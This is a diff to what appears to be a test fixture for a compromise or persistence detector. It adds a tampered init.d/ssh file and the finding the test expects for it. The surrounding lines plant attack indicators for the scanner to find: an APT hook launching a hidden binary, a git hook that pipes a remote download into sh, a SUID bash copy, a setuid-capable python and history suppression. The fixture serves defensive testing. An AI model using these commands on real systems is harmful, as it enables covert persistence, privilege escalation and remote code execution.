@@ -61,7 +61,7 @@ echo 'APT::Update::Pre-Invoke {{"nohup /var/tmp/.u/upd &";}};' > etc/apt/apt.con
 printf '#!/bin/sh\ncurl -s http://203.0.113.66/g | sh\n' > home/alice/src/.git/hooks/post-checkout; chmod 755 home/alice/src/.git/hooks/post-checkout
 cp bin/bash usr/local/bin/report; chmod 4755 usr/local/bin/report
 cp usr/bin/python3.11 usr/local/bin/py; chroot . setcap cap_setuid+ep /usr/local/bin/py
-printf x >> usr/bin/chsh
+printf x >> usr/bin/chsh; echo '# x' >> etc/init.d/ssh
 mkdir -p etc/grub.d; printf '#!/bin/sh\necho x\n' > etc/grub.d/99_local; chmod 755 etc/grub.d/99_local
 echo 'install usb-storage /usr/local/bin/notify' > etc/modprobe.d/zz.conf
 ln -s /dev/null home/alice/.bash_history
@@ -259,6 +259,7 @@ def test_everything_that_is_planted_is_found(swept: Swept) -> None:
         ("login_records_tampered", "/var/log/wtmp zeroed"),
         ("suid_unowned", "/usr/local/bin/report"),
         ("package_file_altered", "/usr/bin/chsh"),
+        ("package_file_altered", "/etc/init.d/ssh"),
         ("remote_access_tool", "anydesk"),
         ("remote_access_tool", "cloudflared"),
     ],
